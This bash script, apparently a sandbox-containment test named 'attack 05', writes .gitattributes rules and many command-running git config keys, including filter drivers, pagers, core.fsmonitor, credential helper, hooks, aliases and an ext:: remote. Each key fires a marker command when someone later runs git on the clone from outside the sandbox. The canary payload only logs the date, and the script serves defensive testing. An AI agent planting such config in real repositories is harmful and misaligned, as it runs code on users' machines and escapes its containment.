#!/usr/bin/env bash
# attack 05 - runs inside the fence, cwd = top of the clone. @-words are filled in by the test.
set +e
exec </dev/null
H='@HOME@'; M='@MAIN@'; P='@PORT@'; TOP=$PWD
git() { timeout 4 git "$@"; }
commit() { git -c user.name=agent -c user.email=agent@example.invalid -c commit.gpgSign=false -c core.hooksPath=/dev/null commit -q --no-verify "$@"; }
printf '* filter=evil diff=evil merge=evil\n*.md filter=evilp\n' >.gitattributes
echo x >attack-05.txt; echo x >attack-05.md; git add .gitattributes attack-05.txt attack-05.md; commit -m 'attack 05'
cp .gitattributes .git/info/attributes 2>/dev/null
run() { printf "date >>'%s/pwned-05-%s'; %s" "$H" "$1" "$2"; }
c() { git config --replace-all "$1" "$2"; }
for k in core.sshCommand core.gitProxy core.askPass core.editor sequence.editor core.pager core.alternateRefsCommand diff.external diff.evil.command \
         pager.status pager.log pager.diff pager.show pager.branch pager.tag uploadpack.packObjectsHook gc.recentObjectsHook \
         interactive.diffFilter trailer.evil.command tar.tar.gz.command remote.origin.uploadpack remote.origin.receivepack man.evil.cmd difftool.evil.cmd mergetool.evil.cmd; do
  c "$k" "$(run "$k" :)"
done
c filter.evil.clean "$(run clean cat)"; c filter.evil.smudge "$(run smudge cat)"; c filter.evilp.process "$(run process :)"
c diff.evil.textconv "$(run textconv cat)"; c merge.evil.driver "$(run mergedriver true)"; c merge.default evil
c credential.helper "!$(run credential :)"; c submodule.evil.update "!$(run submodule :)"
for k in st co ci br lg; do c "alias.$k" "!$(run "alias-$k" :)"; done
c hook.evil.command "$(run confighook :)"; for e in pre-commit post-checkout reference-transaction post-index-change; do git config --add hook.evil.event "$e"; done
c trailer.evil.key Evil; c protocol.ext.allow always; c diff.tool evil; c merge.tool evil
c remote.evil.url "ext::sh -c date%20>'$H/pwned-05-ext'"
c core.attributesFile "$TOP/.gitattributes"
c core.fsmonitor "$(run fsmonitor :)"
find . -path ./.git -prune -o -type f -exec touch {} +
echo y >>attack-05.txt; echo y >>attack-05.md
exit 0
